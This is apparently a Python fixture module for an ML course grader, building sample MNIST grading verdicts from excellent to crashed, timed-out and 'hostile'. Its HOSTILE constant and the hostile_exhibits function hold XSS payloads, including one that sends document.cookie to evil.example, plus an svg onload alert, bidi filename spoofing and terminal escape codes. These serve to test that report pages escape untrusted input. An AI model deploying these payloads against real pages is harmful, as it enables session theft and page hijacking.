"""Verdicts to draw: what a class hands in, from excellent to hostile. Students are sample ids, nobody real."""

from __future__ import annotations

import io
import math

import numpy as np
from PIL import Image

from grader.records import (
    Advice,
    Artifact,
    Bin,
    CellError,
    CheckResult,
    Confusion,
    Curve,
    Ending,
    Environment,
    Evidence,
    Exhibits,
    Figure,
    Flag,
    LayerRow,
    Level,
    Limits,
    Outcome,
    Tier,
    Verdict,
    WrongPicture,
)
from grader.reports import ClassRow, ExecutedCell
from grader.reports.classroom import CheckScore

DIGITS = tuple("0123456789")
PASSED, FAILED, SKIPPED, ERRORED = Outcome.PASSED, Outcome.FAILED, Outcome.SKIPPED, Outcome.ERRORED
VERIFIED, OBSERVED = Evidence.VERIFIED, Evidence.OBSERVED
HOSTILE = (
    "<script>fetch('https://evil.example/'+document.cookie)</script><img src=x onerror=alert(1)>"
    "\u202egnp.exe\u200b\x00\x1b[31m\x1b]0;title\x07"
)

ENVIRONMENT = Environment(
    grader="0.1.0",
    python="3.11.7",
    platform="Linux 6.1 x86_64",
    packages={"tensorflow": "2.21.0", "keras": "3.15.1", "numpy": "2.4.6"},
)


def picture(seed: int, side: int = 28) -> bytes:
    """A small grey blob: a stand-in for a handwritten digit."""
    rng = np.random.default_rng(seed)
    y, x = np.mgrid[0:side, 0:side]
    blob = np.exp(-((x - 9 - 9 * rng.random()) ** 2) / 18 - (y - 13) ** 2 / 60)
    ring = np.exp(-((np.hypot(x - 14, y - 9 - 9 * rng.random()) - 6) ** 2) / 4)
    pixels = np.clip(255 * (blob + ring) / 1.3, 0, 255).astype(np.uint8)
    written = io.BytesIO()
    Image.fromarray(pixels).save(written, "PNG")
    return written.getvalue()


def confusion() -> Confusion:
    """Ten classes, mostly right."""
    rng = np.random.default_rng(7)
    matrix = rng.poisson(1.2, (10, 10)) * (rng.random((10, 10)) < 0.4)
    matrix[4, 9], matrix[9, 4], matrix[7, 2] = 14, 9, 8
    np.fill_diagonal(matrix, 470 + rng.integers(0, 40, 10))
    return Confusion(labels=DIGITS, matrix=tuple(tuple(int(n) for n in row) for row in matrix))


def exhibits(epochs: int = 12) -> Exhibits:
    """Everything a classifier's card may show."""

    def loss(floor: float, offset: float) -> tuple[float, ...]:
        return tuple(floor + 0.6 * math.exp(-i / 3) + offset * i / epochs for i in range(epochs))

    def rise(top: float) -> tuple[float, ...]:
        return tuple(top - 0.25 * math.exp(-i / 2.5) for i in range(epochs))

    return Exhibits(
        curves=(
            Curve(name="loss", values=loss(0.04, 0)),
            Curve(name="val_loss", values=loss(0.09, 0.05)),
            Curve(name="accuracy", values=rise(0.99)),
            Curve(name="val_accuracy", values=rise(0.965)),
        ),
        layers=(
            LayerRow(name="flatten", kind="Flatten", output_shape="(None, 784)", parameters=0),
            LayerRow(name="dense", kind="Dense", output_shape="(None, 128)", parameters=100_480),
            LayerRow(name="dropout", kind="Dropout", output_shape="(None, 128)", parameters=0),
            LayerRow(name="dense_1", kind="Dense", output_shape="(None, 10)", parameters=1_290),
        ),
        confusion=confusion(),
        wrong=tuple(
            WrongPicture(
                png=picture(i),
                predicted=str((i * 3 + 2) % 10),
                actual=str(i % 10),
                confidence=0.51 + 0.03 * i,
                public=i < 8,
            )
            for i in range(12)
        ),
        calibration=(
            Bin(confidence=0.46, right=0.4, count=35),
            Bin(confidence=0.76, right=0.7, count=160),
            Bin(confidence=0.98, right=0.96, count=4_800),
        ),
    )


def check(
    identifier: str, description: str, points: float, score: float, outcome: Outcome, **more: object
) -> CheckResult:
    """A check's result with verified evidence unless told otherwise."""
    fields: dict[str, object] = {"required": VERIFIED, "evidence": VERIFIED, **more}
    return CheckResult(id=identifier, description=description, points=points, score=score, outcome=outcome, **fields)


def verdict(**more: object) -> Verdict:
    """A verdict on the digits lab; ``more`` says what is special."""
    fields: dict[str, object] = {
        "lab": "mnist",
        "lab_title": "MNIST: a classifier for handwritten digits",
        "student": "student-007",
        "submission": "3f9ac0d2b71e",
        "ending": Ending.OK,
        "score": 100.0,
        "max_score": 100.0,
        "checks": (),
        "level": Level.L2,
        "tier": Tier.FULL,
        "environment": ENVIRONMENT,
        "timings": {"kernel": 0.13, "notebook": 41.2, "questions": 2.9, "suite": 0.6},
        "peak_memory_mb": 812.0,
        "limits": Limits(),
        "graded_at": "2026-03-02 14:05 UTC",
        "artifacts": (Artifact(path="mnist.keras", size=1_243_512, sha256="ab" * 32),),
        **more,
    }
    return Verdict(**fields)


_MODEL = "Your notebook leaves a Keras model called `model`."
_TRAINED = "Your model was trained for at least three epochs."
_ACCURACY = "Your model reads digits it has never seen."
_PROBABILITIES = "Its outputs are probabilities: ten numbers that add up to 1."
_SHIFT = "It still reads digits that are shifted by one pixel."
_SAVED = "Your saved model answers like the one in memory."
_GPU = "Training used the GPU."


def excellent() -> Verdict:
    """Everything passed."""
    return verdict(
        checks=(
            check("model", _MODEL, 10, 10, PASSED, found="a Sequential model with 101,770 parameters", seconds=0.1),
            check(
                "trained",
                _TRAINED,
                15,
                15,
                PASSED,
                evidence=OBSERVED,
                required=OBSERVED,
                found="12 epochs; the loss fell from 0.64 to 0.04",
            ),
            check(
                "accuracy",
                _ACCURACY,
                40,
                40,
                PASSED,
                expected="at least 96 % right",
                found="97.6 % of 5,000 right",
                figure=Figure(value=0.976, lo=0.971, hi=0.98, floor=0.85, full=0.96),
            ),
            check("probabilities", _PROBABILITIES, 10, 10, PASSED),
            check("shift", _SHIFT, 10, 10, PASSED, found="94.9 % right"),
            check("saved", _SAVED, 15, 15, PASSED, found="largest difference 2e-07"),
            check("gpu", _GPU, 0, 0, SKIPPED, evidence=None, rationale="This machine has no GPU."),
        ),
        notes=("Pixels were given in 0–1, as in your last fit.",),
    )


def partial() -> Verdict:
    """Some credit, one thing blocked, one error of ours, flags for staff."""
    return verdict(
        score=52.5,
        student="student-012",
        attempt=2,
        checks=(
            check("model", _MODEL, 10, 10, PASSED, found="a Sequential model with 7,850 parameters"),
            check(
                "trained",
                _TRAINED,
                15,
                15,
                PASSED,
                evidence=OBSERVED,
                required=OBSERVED,
                found="3 epochs; the loss fell from 0.71 to 0.31",
            ),
            check(
                "accuracy",
                _ACCURACY,
                40,
                22.5,
                FAILED,
                expected="96 % of unseen digits right for full marks; credit starts at 85 %",
                found="91.2 % of 5,000 right",
                hint="A hidden layer helps most: add `Dense(128, activation='relu')` before the output, "
                "and train for 5 epochs or more.",
                staff_note="Wilson interval 0.904 to 0.920; threshold floor 0.85, full 0.96.",
                figure=Figure(value=0.912, lo=0.904, hi=0.92, floor=0.855, full=0.965),
            ),
            check(
                "probabilities",
                _PROBABILITIES,
                10,
                5,
                FAILED,
                expected="rows that add up to 1 within 0.001",
                found="rows add up to between -3.2 and 11.7",
                rationale="The last layer has no activation, so its outputs are logits.",
                hint="Use `activation='softmax'` on the last layer, or add a Softmax layer after training.",
            ),
            check(
                "saved",
                _SAVED,
                15,
                0,
                FAILED,
                expected="a file called mnist.keras",
                found="no file with that name",
                evidence=None,
                hint="Call `model.save('mnist.keras')` in the last cell.",
            ),
            check("shift", _SHIFT, 5, 0, SKIPPED, blocked_by="saved", evidence=None),
            check(
                "gap",
                "Public and held-out accuracy agree.",
                5,
                0,
                ERRORED,
                evidence=None,
                staff_note="ValueError: cannot reshape array of size 0",
            ),
        ),
        flags=(Flag(kind="large literal", message="Cell 3 holds a 48 kB string of high entropy.", check="accuracy"),),
        needs_attention=("check “gap” ended in an error of the suite",),
        tier=Tier.LITE,
        level=Level.L1,
    )


def crashed() -> Verdict:
    """A legacy idiom stopped the notebook; advice says which line to write."""
    line = "model.fit(x_train, y_train, nb_epoch=5, batch_size=32)"
    return verdict(
        score=10.0,
        student="student-003",
        ending=Ending.CELL_ERROR,
        ending_detail="Cells 6 to 9 did not run.",
        checks=(
            check("model", _MODEL, 10, 10, PASSED, found="a Sequential model"),
            check(
                "trained",
                _TRAINED,
                15,
                0,
                FAILED,
                required=OBSERVED,
                evidence=OBSERVED,
                expected="three epochs",
                found="no epoch was recorded",
                hint="Correct cell 5 first.",
            ),
            check("accuracy", _ACCURACY, 40, 0, SKIPPED, blocked_by="trained", evidence=None),
            check("probabilities", _PROBABILITIES, 35, 0, SKIPPED, blocked_by="trained", evidence=None),
        ),
        cell_errors=(
            CellError(
                cell=5,
                line=2,
                kind="TypeError",
                message="TensorFlowTrainer.fit() got an unexpected keyword argument 'nb_epoch'",
                source_line=line,
                traceback="\x1b[31mTypeError\x1b[39m  Traceback (most recent call last)\n"
                f"Cell In[5], line 2\n----> 2 {line}\n\n"
                "TypeError: fit() got an unexpected keyword argument 'nb_epoch'",
                advice=Advice(
                    rule="nb_epoch",
                    text="The argument nb_epoch is called epochs since Keras 2.",
                    old=line,
                    new=line.replace("nb_epoch", "epochs"),
                ),
            ),
        ),
    )


def timed_out(**more: object) -> Verdict:
    """Never finishes; graded on a laptop without a sandbox."""
    return verdict(
        **more,
        score=10.0,
        student="student-009",
        ending=Ending.TIMEOUT,
        ending_detail="Stopped in cell 4 after 300 s.",
        level=Level.L0,
        checks=(
            check("model", _MODEL, 10, 10, PASSED),
            check(
                "trained",
                _TRAINED,
                90,
                0,
                FAILED,
                required=OBSERVED,
                evidence=None,
                expected="three epochs",
                found="training had not ended",
                hint="Try one epoch first.",
            ),
        ),
    )


def empty() -> Verdict:
    """Nothing to run."""
    return verdict(
        score=0.0, student="student-015", ending=Ending.EMPTY, checks=(), timings={}, peak_memory_mb=0.0, artifacts=()
    )


def ours() -> Verdict:
    """The machine failed; nothing was judged."""
    return verdict(
        score=0.0,
        max_score=0.0,
        student="student-016",
        ending=Ending.OURS,
        needs_attention=("the sandbox could not be started",),
        artifacts=(),
    )


def hostile() -> Verdict:
    """Every field a submission can reach tries to break the page."""
    long = HOSTILE + "A" * 10_000
    return verdict(
        score=0.0,
        student=HOSTILE,
        ending=Ending.CELL_ERROR,
        ending_detail=long,
        checks=(
            check(
                "accuracy",
                _ACCURACY,
                100,
                0,
                FAILED,
                expected=HOSTILE,
                found=long,
                rationale=HOSTILE,
                hint="\u2066" + HOSTILE + "Z\u0351\u0300\u0301\u0302\u0303\u0304" * 50,
            ),
        ),
        cell_errors=(
            CellError(
                cell=1,
                line=1,
                kind=long,
                message=long,
                source_line=long,
                traceback=long * 2,
                advice=Advice(rule="x", text=long, old=long, new=long),
            ),
        ),
        notes=(HOSTILE,),
        flags=(Flag(kind=HOSTILE, message=long),),
        artifacts=(Artifact(path="\"'>" + HOSTILE, size=1, sha256="00"),),
    )


def hostile_exhibits() -> Exhibits:
    """Names, numbers and pictures that attack the page."""
    return Exhibits(
        curves=(
            Curve(name=HOSTILE, values=(float("nan"), 1e308, -1e308, 3.0, 2.0)),
            Curve(name="A" * 10_000, values=tuple(float(i) for i in range(20_000))),
            Curve(name="none", values=(None, float("inf"))),
        ),
        layers=tuple(
            LayerRow(name=HOSTILE, kind="K" * 10_000, output_shape=HOSTILE, parameters=10**18) for _ in range(500)
        ),
        confusion=Confusion(labels=(HOSTILE, "B" * 10_000), matrix=((1, 2), (3, 4))),
        wrong=(
            WrongPicture(
                png=b"<svg onload=alert(1)>", predicted=HOSTILE, actual=HOSTILE, confidence=float("nan"), public=True
            ),
            WrongPicture(png=picture(1), predicted=HOSTILE, actual=HOSTILE, confidence=float("inf"), public=True),
        ),
    )


def cells() -> tuple[ExecutedCell, ...]:
    """A notebook as it ran."""
    return (
        ExecutedCell(number=1, source="import tensorflow as tf"),
        ExecutedCell(number=2, source="model.fit(x, y)", output="Epoch 1/5\n…", failed=True),
    )


def class_check(identifier: str, score: float, points: float) -> CheckScore:
    """A check of one run of the class."""
    outcome = PASSED if score == points else FAILED
    return CheckScore(
        id=identifier, description="Your model names flowers.", points=points, score=score, outcome=outcome
    )


def class_rows() -> tuple[ClassRow, ...]:
    """A small class."""
    kinds = [Ending.OK, Ending.OK, Ending.OK, Ending.CELL_ERROR, Ending.TIMEOUT, Ending.OURS]
    return tuple(
        ClassRow(
            lab=("iris", "mnist")[i % 2],
            lab_title=("Iris: a custom training loop", "MNIST: handwritten digits")[i % 2],
            student=f"student-{i:03d}",
            score=float((i * 37) % 101),
            max_score=100.0,
            ending=kinds[i % 6],
            level=Level.L2,
            tier=Tier.FULL,
            seconds=4.0 + i * 7.3,
            needs_attention=kinds[i % 6] is Ending.OURS,
            flags=int(i == 7),
            card=f"{('iris', 'mnist')[i % 2]}/student-{i:03d}/staff/card.html",
            page=f"students/student-{i:03d}.html",
            checks=(class_check("accuracy", float((i * 37) % 61), 60.0), class_check("loss", 40.0 * (i % 3 > 0), 40.0)),
            advice=("Scale the pixels.",) if i % 3 else (),
        )
        for i in range(18)
    )
